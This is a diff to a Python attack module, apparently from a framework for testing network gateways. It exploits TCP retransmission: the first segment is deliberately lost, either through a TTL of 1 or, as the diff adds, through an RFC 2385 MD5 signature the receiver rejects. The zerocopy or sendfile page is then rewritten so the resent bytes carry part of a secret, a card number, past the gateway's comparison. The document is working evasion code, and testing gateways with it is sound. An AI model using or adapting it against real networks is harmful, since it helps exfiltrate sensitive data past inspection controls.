@@ -1,9 +1,10 @@
 """A segment that is sent again with other bytes, because its pages were changed meanwhile.
 
-The first sending dies on the way (a TTL of 1, which any process may set), what follows arrives,
-then the page gets the first half of the value, and TCP sends it again. `beyond`: bytes behind
-the second half, so that the gateway may have forgotten what it could compare with.
-`way`: `zerocopy` or `sendfile`.
+The first sending is lost, what follows arrives, then the page gets the first half of the value, and
+TCP sends it again. `beyond`: bytes behind the second half, so that the gateway may have forgotten
+what it could compare with. `way`: `zerocopy` or `sendfile`. `loss`: `ttl` it dies on the way,
+`md5` it bears a signature (RFC 2385) that the receiver has no key for and will not take; any
+process may ask for either.
 """
 
 from __future__ import annotations
@@ -11,6 +12,7 @@ from __future__ import annotations
 import mmap
 import os
 import socket
+import struct
 import time
 
 from attacks.connection import drained, give_up
@@ -18,6 +20,7 @@ from attacks.page_race import WAYS
 from attacks.target import Target
 
 PAGE = mmap.PAGESIZE
+TCP_MD5SIG = 14
 SOONER = 0.05  # seconds until a second segment: before the first is sent again
 
 
@@ -29,11 +32,6 @@ def main(target: Target) -> None:
 
 def once(target: Target) -> None:
     """One connection."""
-    level, option = (
-        (socket.IPPROTO_IP, socket.IP_TTL)
-        if target.af == socket.AF_INET
-        else (socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS)
-    )
     cut = len(target.secret) // 2
     first, second = target.secret[:cut], target.secret[cut:]
     lead = b"order 17, card "
@@ -47,12 +45,25 @@ def once(target: Target) -> None:
     try:
         made.sendall(b"hello, this is the beginning\n")
         drained(made)
-        made.setsockopt(level, option, 1)
+        lose(made, target, on=True)
         WAYS[target.args.get("way", "zerocopy")](made, file, page, size)
         page[len(lead) : size] = first
-        made.setsockopt(level, option, 64)
+        lose(made, target, on=False)
         time.sleep(0.002)
         made.sendall(second + b", thanks\n" + filler)
         drained(made, 2.5)
     finally:
         give_up(made)
+
+
+def lose(made: socket.socket, target: Target, *, on: bool) -> None:
+    """What is sent from now on does not arrive, or does again."""
+    if target.args.get("loss") == "md5":
+        peer = struct.pack("=HH4s120x", socket.AF_INET, 0, socket.inet_aton(target.address))
+        key = b"secret" if on else b""
+        signature = struct.pack("=BBHI80s", 0, 0, len(key), 0, key)
+        made.setsockopt(socket.IPPROTO_TCP, TCP_MD5SIG, peer + signature)
+    elif target.af == socket.AF_INET:
+        made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1 if on else 64)
+    else:
+        made.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 1 if on else 64)
